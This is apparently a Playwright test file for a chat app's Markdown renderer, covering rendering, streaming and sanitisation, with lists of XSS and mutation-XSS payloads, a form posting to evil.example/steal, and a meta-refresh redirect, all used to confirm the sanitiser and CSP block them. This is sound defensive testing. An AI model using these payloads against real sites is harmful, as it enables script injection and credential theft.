"""Answers rendered as Markdown (static/js/markdown.js), in headless Chromium under the app's
Content-Security-Policy: every feature, streaming that settles to the one-piece rendering while
finished blocks stay frozen, and a corpus of hostile input that must neither run nor escape.

The page is tests/e2e/pages/markdown.html, served from the repository root with the app's headers
by bench.markdown_frames.static_server; the tests drive it through window.markdown.
"""

from __future__ import annotations

import itertools
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from bench.markdown_frames import static_server
from tests.e2e.chat_page import CspViolations

pytestmark = pytest.mark.e2e

PAGE = "/tests/e2e/pages/markdown.html"

# Until every image of the page has loaded or failed (so its handlers have had their turn), then
# two paints more (so have the violation reports queued meanwhile); "late" after 10 s.
SETTLED = """async () => {
  const loaded = [...document.images].map((image) => image.complete ? null : new Promise((done) => {
    image.addEventListener("load", done, { once: true });
    image.addEventListener("error", done, { once: true });
  }));
  const late = new Promise((done) => setTimeout(() => done("late"), 10_000));
  if (await Promise.race([Promise.all(loaded), late]) === "late") return "late";
  await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
  return "settled";
}"""

FEATURES = r"""# Heading one
## Heading two
### Heading three

Text with **bold**, *emphasis*, ~~strikethrough~~ and `inline code`; a link to
https://example.com/path, to www.commonmark.org and to [a title](https://example.org "t").

- bullet
- [ ] open task
- [x] done task

1. first
2. second

> a quote

| left | centre | right |
|:-----|:------:|------:|
| a    | b      | c     |

```python
def square(x):
    return x ** 2  # <b>not bold</b>
```

Inline math $e^{i\pi} + 1 = 0$ and \(a^2 + b^2\); it costs $5 and $10, not math.

$$
\int_0^1 x\,dx = \frac{1}{2}
$$

\[
\sum_{k=1}^{n} k = \frac{n(n+1)}{2}
\]

![the site icon](/static/favicon.svg) and ![a remote chart](https://images.example/chart.png)
"""

# Fixed Markdown to stream, with every construct whose half-written form could render wrongly.
STREAMED = r"""# Streaming **test**

A paragraph with *emphasis*, **strong**, `code`, $x^2$ and a [link](https://example.com).

```python
def f(x):
    return x * 2  # `*` not emphasis
```

| name | value |
|------|------:|
| one  | 1     |
| two  | 2     |

$$
\frac{a}{b} + \sqrt{c}
$$

- [x] item **one**
- item two

> quoted
> text

Setext heading
--------------

Last line with ~~strike~~ and <b>raw bold</b>.
"""

THINKING = "<think>Reasoning with **bold** and `code`,\n\n- a list\n</think>\n\nThe **answer**: $x$.\n"


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    with static_server() as url:
        yield url


@dataclass
class MarkdownPage:
    """The Markdown test page, with what it reported: CSP violations and uncaught errors."""

    page: Page
    csp: CspViolations
    errors: list[str]


@pytest.fixture
def markdown_page(browser: Browser, site: str) -> Iterator[MarkdownPage]:
    # No bypass_csp: the policy is enforced, as in a person's browser (page.evaluate is not
    # subject to it; wait_for_function would be, so waits are evaluated promises or locators').
    context = browser.new_context(viewport={"width": 900, "height": 800})
    page = context.new_page()
    page.set_default_timeout(15_000)
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    csp = CspViolations(page)  # before the page's first byte (and nothing defines __pwned)
    page.goto(site + PAGE)
    page.wait_for_selector("body[data-ready]")
    yield MarkdownPage(page, csp, errors)
    context.close()


@pytest.fixture
def page(markdown_page: MarkdownPage) -> Page:
    return markdown_page.page


def show(page: Page, text: str) -> None:
    page.evaluate("(text) => window.markdown.show(text)", text)


def stream(page: Page, chunks: list[str], **options: object) -> dict[str, Any]:
    streamed: dict[str, Any] = page.evaluate(
        "([chunks, options]) => window.markdown.stream(chunks, options)", [chunks, options]
    )
    return streamed


def texts(page: Page, selector: str) -> list[str]:
    found: list[str] = page.eval_on_selector_all(selector, "(nodes) => nodes.map((n) => n.textContent)")
    return found


def assert_nothing_ran(reported: MarkdownPage) -> None:
    """No sentinel set, no CSP violation, no page error: once pending loads have failed."""
    assert reported.page.evaluate(SETTLED) == "settled", "an image neither loaded nor failed in 10 s"
    assert reported.page.evaluate("() => window.__pwned") is None
    assert reported.csp.seen() == []
    assert reported.errors == []


def split_inside(text: str, markers: list[str], rng: random.Random) -> list[str]:
    """Chunks of 1-6 characters that also cut inside every occurrence of each marker."""
    cuts: set[int] = set()
    for marker in markers:
        for match in re.finditer(re.escape(marker), text):
            cuts.update(range(match.start() + 1, match.end()))
    at = 0
    while at < len(text):
        at += rng.randint(1, 6)
        cuts.add(min(at, len(text)))
    edges = [0, *sorted(c for c in cuts if 0 < c < len(text)), len(text)]
    return [text[a:b] for a, b in itertools.pairwise(edges)]


AWKWARD = ["```", "**", "*", "|", "$$", "<b>", "</b>", "~~", "\n"]


# --- every rendering feature -------------------------------------------------------------


def test_renders_headings_emphasis_lists_and_quotes(page, markdown_page):
    show(page, FEATURES)
    assert texts(page, "#answer h1") == ["Heading one"]
    assert texts(page, "#answer h2") == ["Heading two"]
    assert texts(page, "#answer h3") == ["Heading three"]
    assert texts(page, "#answer strong") == ["bold"]
    assert texts(page, "#answer em") == ["emphasis"]
    assert texts(page, "#answer s") == ["strikethrough"]
    assert texts(page, "#answer p > code") == ["inline code"]
    assert texts(page, "#answer ol > li") == ["first", "second"]
    assert texts(page, "#answer blockquote p") == ["a quote"]
    assert_nothing_ran(markdown_page)


def test_renders_task_lists_as_disabled_checkboxes(page):
    show(page, FEATURES)
    boxes = page.eval_on_selector_all(
        "#answer li.task-list-item > input[type=checkbox]",
        "(nodes) => nodes.map((n) => [n.checked, n.disabled])",
    )
    assert boxes == [[False, True], [True, True]]
    assert texts(page, "#answer li.task-list-item") == ["open task", "done task"]


def test_renders_tables_with_alignment_and_no_style_attributes(page):
    show(page, FEATURES)
    assert texts(page, "#answer .md-table th") == ["left", "centre", "right"]
    aligns = page.eval_on_selector_all("#answer .md-table td", "(cells) => cells.map((c) => c.className)")
    assert aligns == ["md-align-left", "md-align-center", "md-align-right"]
    assert page.eval_on_selector_all("#answer [style]:not(.katex *)", "(n) => n.length") == 0


def test_links_open_in_a_new_tab_without_opener_including_autolinks(page):
    show(page, FEATURES)
    links = page.eval_on_selector_all(
        "#answer a", "(links) => links.map((a) => [a.getAttribute('href'), a.target, a.rel])"
    )
    hrefs = [href for href, _, _ in links]
    assert "https://example.com/path" in hrefs
    assert "http://www.commonmark.org" in hrefs
    assert "https://example.org" in hrefs
    assert all(target == "_blank" and rel == "noopener noreferrer" for _, target, rel in links)


def test_fenced_code_is_highlighted_labelled_copyable_and_exact(page):
    show(page, FEATURES)
    assert texts(page, "#answer .md-code-block .md-code-lang") == ["python"]
    assert page.eval_on_selector_all("#answer code.language-python .hljs-keyword", "(n) => n.length") >= 2
    assert texts(page, "#answer pre > code") == ["def square(x):\n    return x ** 2  # <b>not bold</b>\n"]
    button = page.locator("#answer .md-code-block button.copy-code")
    assert button.get_attribute("type") == "button"
    assert button.get_attribute("aria-label") == "Copy code"


def test_the_copy_button_puts_the_code_on_the_clipboard(page, site):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=site)
    show(page, "```js\nconst a = `<tag>`;\n```\n")
    page.click("#answer button.copy-code")
    expect(page.locator("#answer button.copy-code")).to_have_text("Copied")
    assert page.evaluate("() => navigator.clipboard.readText()") == "const a = `<tag>`;"


def test_renders_each_math_syntax_with_katex_and_leaves_prices_alone(page, markdown_page):
    show(page, FEATURES)
    annotations = texts(page, "#answer .katex-mathml annotation")
    assert annotations == [
        r"e^{i\pi} + 1 = 0",
        r"a^2 + b^2",
        r"\int_0^1 x\,dx = \frac{1}{2}",
        r"\sum_{k=1}^{n} k = \frac{n(n+1)}{2}",
    ]
    assert page.eval_on_selector_all("#answer .katex-display", "(n) => n.length") == 2
    assert "it costs $5 and $10, not math." in page.text_content("#answer")
    # KaTeX's fonts are files of our own origin, loaded under default-src 'self'.
    page.evaluate("() => document.fonts.ready")
    assert page.evaluate("() => document.fonts.check('16px KaTeX_Main')")
    assert_nothing_ran(markdown_page)


def test_shows_own_images_and_turns_remote_ones_into_links(page, markdown_page):
    show(page, FEATURES)
    images = page.eval_on_selector_all("#answer img", "(n) => n.map((i) => [i.getAttribute('src'), i.alt])")
    assert images == [["/static/favicon.svg", "the site icon"]]
    remote = page.locator("#answer a.md-remote-image")
    assert remote.get_attribute("href") == "https://images.example/chart.png"
    assert remote.text_content() == "a remote chart"
    assert texts(page, "#answer a.md-remote-image + .md-link-target") == [
        " (https://images.example/chart.png)"
    ]
    assert_nothing_ran(markdown_page)


# --- streaming ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "how",
    ["one character at a time", "cut inside every awkward marker", "in tokens of 1-6 characters"],
)
def test_streaming_ends_with_the_dom_of_the_one_piece_rendering(page, markdown_page, how):
    rng = random.Random(13)
    if how == "one character at a time":
        chunks = list(STREAMED)
    elif how == "cut inside every awkward marker":
        chunks = split_inside(STREAMED, AWKWARD, rng)
    else:
        chunks = split_inside(STREAMED, [], rng)
    result = stream(page, chunks)
    assert result["equal"], result["html"]
    assert_nothing_ran(markdown_page)


def test_a_link_reference_defined_after_its_use_settles_to_a_link(page):
    """A definition may follow its use: the block frozen before it arrived is rendered again."""
    text = "See [the docs][1] for more.\n\nAnother paragraph.\n\n[1]: https://docs.example/\n\nEnd.\n"
    result = stream(page, list(text))
    assert result["equal"]
    assert texts(page, "#answer a") == ["the docs"]


def test_renders_at_most_once_per_animation_frame(page):
    result = page.evaluate(
        """async (text) => {
            const box = document.getElementById("answer");
            const view = new window.markdown.StreamingMarkdown(box);
            let renders = 0;
            new MutationObserver(() => (renders += 1)).observe(box, { childList: true, subtree: true });
            for (let i = 1; i <= text.length; i++) view.update(text.slice(0, i));
            const before = box.innerHTML;
            await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
            return { before, renders, html: box.innerHTML, expected: window.markdown.renderReference(text) };
        }""",
        STREAMED,
    )
    assert result["before"] == ""  # update() only schedules
    assert result["renders"] == 1
    assert result["html"] == result["expected"]


def test_finished_blocks_stay_the_same_dom_nodes_while_later_tokens_arrive(page):
    chunks = list(STREAMED)
    result = stream(page, chunks, markAfter=STREAMED.index("Setext"))
    assert result["marked"] >= 5
    assert result["removedMarked"] == []  # never re-rendered, not even by finish()
    assert result["markedAtEnd"] == result["marked"]
    assert result["equal"]


def test_half_written_constructs_render_stably_while_streaming(page):
    prefixes = {
        "open fence": "Intro\n\n```python\nprint(1)\nprint(2",
        "half a table": "| name | value |\n|---",
        "open bold": "This is **bold",
        "open bold, one star closed": "This is **bold*",
        "open display math": "$$\n\\frac{a}{",
        "fence marker": "Intro\n\n``",
    }
    seen = {name: stream(page, [text], snapshots=True)["snapshots"][0] for name, text in prefixes.items()}
    assert '<pre><code class="hljs language-python">' in seen["open fence"]
    assert "print(1)\nprint(2" in re.sub(r"<[^>]+>", "", seen["open fence"])
    assert "| name | value |" in seen["half a table"]
    assert "<table" not in seen["half a table"]
    assert "<h2" not in seen["half a table"]  # not a setext heading while "|---" arrives
    for bold in ("open bold", "open bold, one star closed"):
        assert "**bold" in seen[bold]
        assert "<em>" not in seen[bold]
    assert 'class="md-math-pending">\\frac{a}{' in seen["open display math"]
    assert "``" not in seen["fence marker"]
    assert "<code" not in seen["fence marker"]


def test_the_answer_never_gets_shorter_while_it_streams(page):
    """No jumping: as tokens arrive, the rendered answer only grows (one character per frame)."""
    heights = page.evaluate(
        """(text) => {
            const box = document.getElementById("answer");
            const view = new window.markdown.StreamingMarkdown(box);
            const heights = [];
            for (let i = 1; i <= text.length; i++) {
                view.update(text.slice(0, i));
                view.flush();
                heights.push(box.getBoundingClientRect().height);
            }
            return heights;
        }""",
        STREAMED.replace("$$\n\\frac{a}{b} + \\sqrt{c}\n$$\n\n", ""),
    )
    shrinks = [(i, a, b) for i, (a, b) in enumerate(itertools.pairwise(heights)) if b < a - 0.5]
    assert shrinks == []


@pytest.mark.parametrize("how", ["one piece", "one character at a time", "cut inside the tags"])
def test_inline_think_goes_to_the_thinking_section_rendered_alike(page, how):
    rng = random.Random(7)
    chunks = {
        "one piece": [THINKING],
        "one character at a time": list(THINKING),
        "cut inside the tags": split_inside(THINKING, ["<think>", "</think>", "**"], rng),
    }[how]
    result = page.evaluate("(chunks) => window.markdown.streamThinking(chunks)", chunks)
    assert result["texts"] == {
        "thinking": "Reasoning with **bold** and `code`,\n\n- a list\n",
        "answer": "\n\nThe **answer**: $x$.\n",
    }
    for part in ("thinking", "answer"):
        assert result[part]["html"] == result[part]["expected"]
    assert "<strong>bold</strong>" in result["thinking"]["html"]
    assert "<li>a list</li>" in result["thinking"]["html"]
    assert "katex" in result["answer"]["html"]


# --- hostile input -----------------------------------------------------------------------

HOSTILE = [
    "<script>window.__pwned = 1</script>",
    '<img src=x onerror="window.__pwned = 1">',
    'text <img src=x onerror="window.__pwned = 1"> inline',
    '<svg onload="window.__pwned = 1"><circle r="40"></circle></svg>',
    '<iframe src="javascript:window.__pwned = 1"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
    '<form action="https://evil.example/steal"><input name="q"><button>Send</button></form>',
    "<style>body { display: none } .bubble { position: fixed; inset: 0 }</style>",
    '<div style="position:fixed;inset:0;background:red;z-index:9">covered</div>',
    'inline <b style="position:fixed;inset:0;background:red">styled</b> text',
    '<a href="javascript:window.__pwned = 1">raw link</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    '<math><mi xlink:href="javascript:window.__pwned=1">x</mi></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>",
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><object data="x"></object><embed src="x">',
    "[click](javascript:window.__pwned=1)",
    "[click](JaVaScRiPt:window.__pwned=1)",
    "[click](java&#x09;script:window.__pwned=1)",
    "[click](data:text/html,<script>window.__pwned=1</script>)",
    "[click](vbscript:msgbox)",
    "<javascript:window.__pwned=1>",
    "![x](javascript:window.__pwned=1)",
    "![x](data:image/svg+xml,<svg onload=window.__pwned=1>)",
    '[x](https://ok.example "title\\" onmouseover=\\"window.__pwned=1")',
    "`<img src=x onerror=window.__pwned=1>`",
    r"$\href{javascript:window.__pwned=1}{click}$ and $\url{javascript:alert(1)}$",
    r"$\htmlStyle{position:fixed;inset:0}{x}$ $\includegraphics{https://evil.example/x.png}$",
    r"$\htmlData{onclick=window.__pwned=1}{x}$ $\htmlClass{copy-code}{x}$",
    "```html\n<script>window.__pwned = 1</script>\n<img src=x onerror=window.__pwned=1>\n```",
    "```\n</code></pre><img src=x onerror=window.__pwned=1>\n```",
    "A " + "very" * 1500 + "long word, and https://example.com/" + "x" * 3000,
    "| " + " | ".join(f"column {i}" for i in range(30)) + " |\n|" + "---|" * 30 + "\n|" + " 1 |" * 30,
    "$$\n" + " + ".join(f"x_{{{i}}}" for i in range(300)) + "\n$$",
    "<details open><summary>open me</summary>hidden</details>",
]

FORBIDDEN = (
    "script, style, iframe, form, object, embed, base, meta, link, details, "
    "svg:not(.katex svg), math:not(.katex math), button:not(.copy-code), "
    "input:not([type=checkbox][disabled].task-list-item-checkbox), [style]:not(.katex, .katex *)"
)


def assert_contained(page: Page) -> None:
    assert page.eval_on_selector_all(f"#answer :is({FORBIDDEN})", "(n) => n.map((e) => e.outerHTML)") == []
    attributes = page.evaluate(
        """() => [...document.querySelectorAll("#answer *")].flatMap((e) => e.getAttributeNames()
            .filter((a) => a.startsWith("on") || a === "srcdoc" || a === "formaction"))"""
    )
    assert attributes == []
    hrefs = page.eval_on_selector_all("#answer [href], #answer [src]", "(n) => n.map((e) => e.href || e.src)")
    assert all(re.match(r"(https?|mailto):", href) for href in hrefs), hrefs
    assert page.evaluate("() => window.markdown.escapes()") == []
    assert page.evaluate("() => getComputedStyle(document.body).display") == "block"


@pytest.mark.parametrize("text", HOSTILE, ids=[f"hostile-{i}" for i in range(len(HOSTILE))])
def test_hostile_input_neither_runs_nor_escapes_its_bubble(page, markdown_page, text):
    show(page, text)
    assert_contained(page)
    assert_nothing_ran(markdown_page)
    result = stream(page, split_inside(text, ["<", ">", "`", "$", "("], random.Random(1)))
    assert result["equal"]
    assert_contained(page)
    assert_nothing_ran(markdown_page)


def test_code_blocks_hold_exactly_the_text_of_the_model(page, markdown_page):
    codes = [
        "<script>window.__pwned = 1</script>\n<img src=x onerror=window.__pwned=1>\n",
        "</code></pre><img src=x onerror=window.__pwned=1>\n",
        "&amp; &lt; <!-- --> ]]> \u202e\u200b tab\there\n",
        "line with trailing spaces   \n\n\nafter blank lines\n",
    ]
    langs = ["html", "", "text", "python"]
    text = "\n".join(f"```{lang}\n{code}```\n" for lang, code in zip(langs, codes, strict=True))
    show(page, text)
    assert texts(page, "#answer pre > code") == codes
    result = stream(page, list(text))
    assert result["equal"]
    assert texts(page, "#answer pre > code") == codes
    assert_nothing_ran(markdown_page)


def test_a_link_that_shows_one_address_and_leads_to_another_shows_where_it_leads(page):
    show(
        page,
        "[https://bank.example/login](https://evil.example/phish) · [bank.example](https://bank.example/) · "
        "[docs](https://docs.example/) · <https://plain.example/>",
    )
    assert texts(page, "#answer .md-link-target") == [" (evil.example)"]
    assert page.eval_on_selector(
        "#answer .md-link-target", "(note) => note.previousElementSibling.getAttribute('href')"
    ) == ("https://evil.example/phish")


MUTATION_XSS = [
    # From DOMPurify's test suite and advisories: namespace confusion and parser round trips.
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=window.__pwned=1>"></style></h1>',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "<svg><p><style><img src=x onerror=window.__pwned=1></style></p></svg>",
    '<a href="javas&#99;ript:window.__pwned=1">x</a><a href=" javascript:window.__pwned=1">y</a>',
    "<template><img src=x onerror=window.__pwned=1></template>",
    '<div id="answer"><form id="x"><input name="attributes"></form></div>',
]


def test_the_sanitiser_alone_defuses_mutation_xss(page, markdown_page):
    """What reaches DOMPurify is markdown-it's output; this feeds it the hostile HTML directly.

    Parsing such a string, in the inert document DOMPurify parses in, makes Chromium report (and
    block) the inline styles and handlers it meets under the page's policy, so CSP reports are
    expected here; nothing may run or come out.
    """
    for html in MUTATION_XSS:
        page.evaluate(
            "(html) => document.getElementById('answer').replaceChildren(window.markdown.sanitizeHtml(html))",
            html,
        )
        assert_contained(page)
        # Re-parsing what was kept must not change it (the mutation in mutation XSS).
        assert page.evaluate(
            """() => { const box = document.getElementById('answer'); const before = box.innerHTML;
                 box.innerHTML = before; return box.innerHTML === before; }"""
        )
    assert page.evaluate(SETTLED) == "settled", "an image neither loaded nor failed in 10 s"
    assert page.evaluate("() => window.__pwned") is None
    assert markdown_page.errors == []
